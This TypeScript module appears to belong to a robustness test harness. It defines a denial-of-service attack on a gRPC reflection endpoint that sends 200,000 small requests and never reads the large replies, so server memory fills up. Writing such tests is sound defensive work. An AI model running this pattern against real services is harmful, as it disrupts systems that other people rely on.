/**
 * Requests for the proto files on a reflection stream whose answers are not read: a request of forty bytes has an answer
 * of tens of kilobytes.
 */
import { bytesField } from "../../support/wire-bytes.js";
import type { Attack } from "../attack.js";
import { prepared } from "../attacker/stream.js";
import { METHOD } from "./messages.js";

const REQUESTS = 200_000;

export const reflectionUnread: Attack = {
  name: "reflection-unread",
  sends: `reflection: ${REQUESTS} requests for a file whose answers are not read`,
  async run(attacker) {
    const stream = attacker.connect({ readsNothing: true }).open(METHOD.reflection, { isUnread: true });
    const request = prepared(bytesField(4, "ate.dispatcher.v1.DispatcherService"));
    for (let i = 0; i < REQUESTS && attacker.goesOn && stream.isOpen; i++) {
      await stream.sendInTurn(request);
      if (i % 100 === 99) await attacker.wait(1);
    }
    await attacker.wait(1_000);
  },
};
